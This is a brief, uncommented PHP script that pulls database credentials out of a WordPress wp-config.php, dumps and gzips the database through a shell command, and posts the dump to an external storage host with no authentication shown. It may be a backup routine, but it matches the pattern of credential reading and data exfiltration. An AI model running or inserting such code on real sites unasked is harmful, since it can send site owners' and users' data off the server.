<?php
$cfg = file_get_contents(getcwd() . '/wp-config.php');
preg_match_all("/define\(\s*'(DB_NAME|DB_USER|DB_PASSWORD|DB_HOST)'\s*,\s*'([^']*)'/", $cfg, $m);
$db = array_combine($m[1], $m[2]);
shell_exec(sprintf('MYSQL_PWD=%s mysqldump -u %s %s | gzip > dump.sql.gz', escapeshellarg($db['DB_PASSWORD']), escapeshellarg($db['DB_USER']), escapeshellarg($db['DB_NAME'])));
$ch = curl_init('https://uploads.storage-vendor.example.com/b2_upload_file');
curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => file_get_contents('dump.sql.gz')]);
curl_exec($ch);
